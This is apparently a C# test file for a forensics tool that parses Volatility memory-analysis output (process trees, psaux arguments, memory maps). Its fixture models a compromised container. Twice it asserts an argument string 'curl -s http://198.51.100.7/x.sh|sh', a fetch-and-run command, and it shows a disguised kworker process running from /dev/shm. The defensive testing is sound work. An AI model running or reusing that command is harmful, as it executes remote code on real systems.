using CsCheck;
using EksIr.Core.Evidence;
using EksIr.Memory;
using EksIr.Memory.Volatility;

namespace EksIr.Core.Tests.Memory;

/// <summary>
/// Process listings and memory maps as Volatility's own renderers print them. The files under Memory/Renderers were
/// written by Volatility 3's CLI renderers (volatility3/cli/text_renderer.py, volatilityfoundation/volatility3 at
/// a1961401d52db56f310675d8cd4af09e3d9e4139, 2.11.0: QuickTextRenderer, PrettyTextRenderer, CSVRenderer, JsonRenderer,
/// JsonLinesRenderer) from the tables in Memory/Renderers/render.py, with each plugin's TreeGrid columns from its source
/// at that commit (linux.pslist's UID…CREATION TIME columns as 2.18 and later print them); the *.vol2.json files are
/// Volatility 2's JSONRenderer shape (volatility/renderers/html.py at 2.6.1: json.dumps of {"columns", "rows"}) with
/// each plugin's unified_output columns at 2.6.1. No third-party Volatility 3 output under a license that lets it be
/// copied was found, so these stand in for it. Every expected value below is the table in render.py, not this reader.
/// </summary>
public sealed class Volatility3RenderersTests
{
    private static readonly EvidenceRoot Renderers = new(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers"));

    /// <summary>render.py's process table: PID, PPID, COMM, depth in the tree.</summary>
    private static readonly (int Pid, int Ppid, string Comm, int Depth)[] Tree =
    [
        (1, 0, "systemd", 0), (830, 1, "containerd", 1), (3310, 1, "containerd-shim", 1), (3342, 3310, "pause", 2), (3401, 3310, "nginx", 2),
        (5120, 3401, "sh", 3), (5188, 5120, "kworker/0:2", 4), (2, 0, "kthreadd", 0), (9, 2, "kworker/0:1H", 1),
    ];

    public static TheoryData<string> Renderer => ["quick", "pretty", "csv", "json", "jsonl"];

    [Theory]
    [MemberData(nameof(Renderer))]
    public void A_pstree_in_every_volatility_3_renderer_gives_each_process_its_parent_and_depth(string renderer)
    {
        var listing = ProcessListingReader.Read(Renderers, $"linux.pstree.{renderer}");

        Assert.Empty(listing.Problems);
        Assert.Equal($"volatility3 linux.pstree ({renderer switch { "quick" => "text", _ => renderer }})", listing.Format);
        Assert.Equal(Tree, listing.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
    }

    [Theory]
    [MemberData(nameof(Renderer))]
    public void A_pslist_in_every_renderer_and_both_column_sets_is_read_flat_with_parents(string renderer)
    {
        foreach (var plugin in new[] { "linux.pslist", "linux.pslist-2.18" })
        {
            var listing = ProcessListingReader.Read(Renderers, $"{plugin}.{renderer}");

            Assert.Empty(listing.Problems);
            Assert.StartsWith("volatility3 linux.pslist", listing.Format);
            Assert.Equal(Tree.Select(t => (t.Pid, (int?)t.Ppid, t.Comm, (int?)null)), listing.Rows.Select(r => (r.Pid, r.Ppid, r.Comm!, r.Depth)));
        }
    }

    [Theory]
    [InlineData("quick", "2026-11-29 06:25:00.114000 UTC")]
    [InlineData("pretty", "2026-11-29 06:25:00.114000 UTC")]
    [InlineData("csv", "2026-11-29 06:25:00.114000 UTC")]
    [InlineData("json", "2026-11-29T06:25:00.114000+00:00")] // JsonRenderer: datetime.isoformat()
    [InlineData("jsonl", "2026-11-29T06:25:00.114000+00:00")]
    public void The_later_pslist_columns_give_each_process_its_uid_and_creation_time(string renderer, string shellStarted)
    {
        var rows = ProcessListingReader.Read(Renderers, $"linux.pslist-2.18.{renderer}").Rows;

        Assert.Equal((33L, shellStarted), (rows.Single(r => r.Pid == 5120).Uid!.Value, rows.Single(r => r.Pid == 5120).StartTime));
        Assert.Equal(65535L, rows.Single(r => r.Pid == 3342).Uid);
    }

    [Theory]
    [InlineData("csv")]
    [InlineData("json")]
    [InlineData("jsonl")]
    public void Psaux_arguments_keep_quotes_backslashes_tabs_and_newlines_where_the_renderer_keeps_them(string renderer)
    {
        var listing = ProcessListingReader.Read(Renderers, $"linux.psaux.{renderer}");

        Assert.Empty(listing.Problems);
        Assert.Equal("sh -c \"curl -s http://198.51.100.7/x.sh|sh\", then \\wait", listing.Rows.Single(r => r.Pid == 5120).Args);
        Assert.Equal("/dev/shm/kworker/0:2\t-daemon\nsecond line", listing.Rows.Single(r => r.Pid == 5188).Args);
        Assert.Equal(Tree.Select(t => (t.Pid, (int?)t.Ppid)), listing.Rows.Select(r => (r.Pid, r.Ppid)));
    }

    [Fact]
    public void A_newline_inside_an_argument_in_quick_text_cuts_it_and_the_line_it_runs_onto_is_named()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.quick");

        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
        var problem = Assert.Single(listing.Problems);
        Assert.Equal("line 11", problem.Where); // "second line": the quick renderer writes the value as it is
        Assert.Contains("after PID 5188, line 10", problem.Problem);
        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
    }

    [Fact]
    public void A_newline_inside_an_argument_in_pretty_text_is_a_named_further_line_and_tabs_are_spaces()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.pretty");

        Assert.Equal("volatility3 linux.psaux (pretty)", listing.Format);
        Assert.Equal("/dev/shm/kworker/0:2    -daemon", listing.Rows.Single(r => r.Pid == 5188).Args); // tab_stop: tabs to 8-column stops
        var problem = Assert.Single(listing.Problems);
        Assert.Equal("line 9", problem.Where);
        Assert.StartsWith("a further line of a value with a newline in it after PID 5188", problem.Problem);
    }

    public static TheoryData<string, string, string> OtherPlugins()
    {
        var data = new TheoryData<string, string, string>();
        foreach (var renderer in new[] { "quick", "pretty", "csv", "json", "jsonl" })
        {
            data.Add("linux.bash", renderer, "Volatility 3 linux.bash.Bash (shell history)");
            data.Add("linux.envars", renderer, "Volatility 3 linux.envars.Envars (environment variables)");
            data.Add("linux.psscan", renderer, "Volatility 3 linux.psscan.PsScan (task structures found by scanning, exited ones too)");
        }

        return data;
    }

    [Theory]
    [MemberData(nameof(OtherPlugins))]
    public void Another_plugins_output_in_any_renderer_is_named_and_its_pids_are_not_taken_for_processes(string plugin, string renderer, string named)
    {
        var listing = ProcessListingReader.Read(Renderers, $"{plugin}.{renderer}");

        Assert.Empty(listing.Rows);
        Assert.Equal(named, listing.Format);
        Assert.EndsWith("output, not a process listing; not read as processes", Assert.Single(listing.Problems).Problem);
    }

    [Fact]
    public void Environment_variables_beside_a_pstree_in_a_folder_are_skipped_and_flag_no_process_as_a_duplicate()
    {
        // linux.envars repeats PID 5120 once per variable (render.py): read as processes it would look like two tasks with one PID.
        using var temp = new TempDir();
        File.Copy(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", "linux.pstree.quick"), temp.Combine("pstree.txt"));
        File.Copy(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", "linux.envars.quick"), temp.Combine("envars.txt"));

        var tree = ProcessTree.Of(new EvidenceRoot(temp.Path), ".");

        Assert.Equal(Tree.Select(t => t.Pid).Order(), tree.Processes.Select(p => p.Pid).Order());
        Assert.DoesNotContain(tree.Processes, p => p.Flags.Contains("duplicate PID in one listing"));
        Assert.Contains(tree.Problems, p => p.File.EndsWith("envars.txt", StringComparison.Ordinal) && p.Problem.Contains("linux.envars.Envars", StringComparison.Ordinal));
    }

    [Theory]
    [MemberData(nameof(Renderer))]
    public void Proc_maps_in_every_renderer_give_each_region_its_addresses_flags_and_file(string renderer)
    {
        var maps = ProcessMaps.Of(Renderers, $"linux.proc.Maps.{renderer}", null);

        Assert.Empty(maps.Problems);
        Assert.Equal(
            [(3401, 0x55d0c0a00000UL, 0x55d0c0b2e000UL, "r-x", "/usr/sbin/nginx"), (5188, 0x400000UL, 0x6f2000UL, "r-x", "/dev/shm/kworker/0:2 (deleted)"),
             (5188, 0x7f3a1c000000UL, 0x7f3a1c021000UL, "rwx", "Anonymous Mapping")],
            maps.Regions.Select(r => (r.Pid, r.Start, r.End, r.Protection, r.Path!)));
        Assert.Equal(48213L, maps.Regions[1].Inode);
    }

    [Fact]
    public void A_process_listing_reader_given_maps_names_them_and_reads_no_processes()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.proc.Maps.quick");

        Assert.Empty(listing.Rows);
        Assert.StartsWith("Volatility 3 linux.proc.Maps", listing.Format);
    }

    [Theory]
    [InlineData("quick")]
    [InlineData("csv")]
    [InlineData("jsonl")]
    public void A_column_volatility_does_not_print_is_named_and_the_rest_of_each_row_is_kept(string renderer)
    {
        var lines = File.ReadAllLines(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", $"linux.pstree.{renderer}"));
        var header = Array.FindIndex(lines, l => l.Contains("PID", StringComparison.Ordinal));
        var changed = lines.Select((l, i) => l.Length == 0 || i < header ? l
            : renderer == "jsonl" ? l.Replace("\"PPID\": ", "\"CGROUP\": \"/kubepods\", \"PPID\": ", StringComparison.Ordinal)
            : l + (renderer == "csv" ? "," : "\t") + (i == header ? "CGROUP" : "/kubepods"));

        var listing = ProcessListingReader.Parse(string.Join('\n', changed), "pstree");

        var problem = Assert.Single(listing.Problems);
        Assert.Equal("column 'CGROUP' not among those Volatility 3's linux.pslist, linux.pstree and linux.psaux prints; its values are not read", problem.Problem);
        Assert.Equal(Tree, listing.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
    }

    [Fact]
    public void The_hand_written_csv_of_volatility_3_before_2_4_gives_the_same_tree_uids_and_times()
    {
        var tree = ProcessListingReader.Read(Renderers, "linux.pstree.csv-2.0.1");
        var pslist = ProcessListingReader.Read(Renderers, "linux.pslist-2.18.csv-2.0.1");

        Assert.Empty(tree.Problems.Concat(pslist.Problems));
        Assert.Equal(Tree, tree.Rows.Select(r => (r.Pid, r.Ppid ?? -1, r.Comm!, r.Depth ?? -1)));
        Assert.Equal((33L, "2026-11-29 06:25:00.114000 UTC"), (pslist.Rows.Single(r => r.Pid == 5120).Uid!.Value, pslist.Rows.Single(r => r.Pid == 5120).StartTime));
        Assert.Equal("0xffff9e3b40002a00", pslist.Rows[0].Offset);
    }

    [Fact]
    public void Arguments_in_the_hand_written_csv_keep_their_unescaped_quotes_and_backslashes_and_a_newline_is_named()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.csv-2.0.1");

        Assert.Equal("sh -c \"curl -s http://198.51.100.7/x.sh|sh\", then \\wait", listing.Rows.Single(r => r.Pid == 5120).Args);
        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
        var problem = Assert.Single(listing.Problems); // "second line\"": the old writer printed the newline as it was
        Assert.Equal("line 9", problem.Where);
        Assert.StartsWith("not a row of the CSV table (1 cells for 5 columns", problem.Problem);
        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
    }

    [Fact]
    public void A_newline_inside_an_argument_in_pretty_text_before_2_4_runs_onto_a_line_outside_the_table_and_is_named()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.psaux.pretty-2.0.1");

        Assert.Equal("/dev/shm/kworker/0:2\t-daemon", listing.Rows.Single(r => r.Pid == 5188).Args);
        var problem = Assert.Single(listing.Problems);
        Assert.Equal("line 9", problem.Where);
        Assert.StartsWith("not a row of the pretty table (no \" | \" cells", problem.Problem);
        Assert.Equal(Tree.Select(t => t.Pid), listing.Rows.Select(r => r.Pid));
    }

    [Fact]
    public void Bash_history_in_the_hand_written_csv_is_named_too()
    {
        var listing = ProcessListingReader.Read(Renderers, "linux.bash.csv-2.0.1");

        Assert.Empty(listing.Rows);
        Assert.Equal("Volatility 3 linux.bash.Bash (shell history)", listing.Format);
    }

    [Fact]
    public void A_json_value_of_a_shape_volatility_never_writes_is_named_and_the_process_kept()
    {
        var text = "[{\"PID\": 1, \"PPID\": 0, \"COMM\": {\"name\": \"systemd\"}, \"__children\": [{\"PID\": 7, \"PPID\": 1, \"COMM\": \"sh\", \"__children\": 3}]}]";

        var listing = ProcessListingReader.Parse(text, "pstree.json");

        Assert.Equal([(1, (string?)null), (7, "sh")], listing.Rows.Select(r => (r.Pid, r.Comm)));
        Assert.Equal(["\"COMM\" holds a JSON object, not what Volatility writes there; not read", "\"__children\" holds a JSON number, not what Volatility writes there; not read"],
            listing.Problems.Select(p => p.Problem));
    }

    [Fact]
    public void A_process_name_with_a_tab_in_quick_pslist_text_keeps_its_uid_and_time_in_place_and_is_named()
    {
        // What QuickTextRenderer prints for a comm "k\tworker" in the 2.18 pslist columns: the values joined by tabs, as they are.
        var text = "\nOFFSET (V)\tPID\tTID\tPPID\tCOMM\tUID\tGID\tEUID\tEGID\tCREATION TIME\tFile output\n\n" +
                   "0xffff9e3b40002a00\t1\t1\t0\tsystemd\t0\t0\t0\t0\t2026-11-29 06:00:02.114000 UTC\tDisabled\n" +
                   "0xffff9e3b4367a800\t5188\t5188\t1\tk\tworker\t33\t33\t33\t33\t2026-11-29 06:25:10.114000 UTC\tDisabled\n";

        var listing = ProcessListingReader.Parse(text, "pslist.txt");

        var row = listing.Rows.Single(r => r.Pid == 5188);
        Assert.Equal(("k\tworker", 33L, "2026-11-29 06:25:10.114000 UTC"), (row.Comm, row.Uid!.Value, row.StartTime));
        Assert.Equal(("line 5", "12 cells for 11 columns: the extra tab taken as part of COMM ('k\tworker')"), (Assert.Single(listing.Problems).Where, listing.Problems[0].Problem));
    }

    [Fact]
    public void A_file_name_with_a_tab_in_quick_maps_text_stays_the_regions_path_and_is_named()
    {
        var text = File.ReadAllText(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers", "linux.proc.Maps.quick"))
            .Replace("/dev/shm/kworker/0:2 (deleted)", "/dev/shm/.x\ty (deleted)", StringComparison.Ordinal);

        var maps = ProcessMaps.Parse(text, "maps.txt", 5188);

        Assert.Equal(["/dev/shm/.x\ty (deleted)", "Anonymous Mapping"], maps.Regions.Select(r => r.Path));
        Assert.Equal(("line 5", "12 cells for 11 columns: the extra tab taken as part of File Path ('/dev/shm/.x\ty (deleted)')"), (Assert.Single(maps.Problems).Where, maps.Problems[0].Problem));
    }

    [Fact]
    public void A_csv_value_whose_quote_never_closes_is_named_and_the_rows_before_it_are_kept()
    {
        var text = "TreeDepth,PID,PPID,COMM,ARGS\n0,1,0,systemd,/sbin/init\n0,666,1,evil,\"sh -c \"\"x\n0,2,0,kthreadd,[kthreadd]\n";

        var listing = ProcessListingReader.Parse(text, "psaux.csv");

        Assert.Equal([1, 2], listing.Rows.Select(r => r.Pid));
        Assert.Equal(("line 3", "a quoted value that never closes before the end of the file; this line skipped, the lines after it read as rows"),
            (Assert.Single(listing.Problems).Where, listing.Problems[0].Problem));
    }

    [Fact]
    public void Damaged_copies_of_every_renderer_output_never_crash_the_readers_and_every_kept_row_points_into_the_file()
    {
        var samples = Directory.GetFiles(Repo.Path("tests", "EksIr.Core.Tests", "Memory", "Renderers")).Where(f => !f.EndsWith(".py", StringComparison.Ordinal))
            .Select(File.ReadAllText).ToArray();
        var insert = Gen.OneOf(Gen.Char.Select(c => c.ToString()), Gen.Const("\""), Gen.Const(" | "), Gen.Const("\n"), Gen.Const("\t"), Gen.Const("*"), Gen.Const("\\"), Gen.Const("{"), Gen.Const("["));
        Gen.Int[0, samples.Length - 1].Select(Gen.Int[0, 4000], Gen.Int[0, 40], insert).Sample((which, at, cut, text) =>
        {
            var sample = samples[which];
            var start = Math.Min(at, sample.Length);
            var damaged = sample[..start] + text + sample[Math.Min(sample.Length, start + cut)..];
            var listing = ProcessListingReader.Parse(damaged, "fuzz");
            var maps = ProcessMaps.Parse(damaged, "fuzz", null);
            var lines = damaged.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n').Split('\n').Length;
            Assert.All(listing.Rows, r => Assert.InRange(r.Line, 1, lines)); // every row kept points at a line of the file
            Assert.All(listing.Problems.Concat(maps.Problems), p => Assert.Equal("fuzz", p.File));
            _ = ProcessTree.Build([listing], null);
        }, iter: 3000);
    }
}
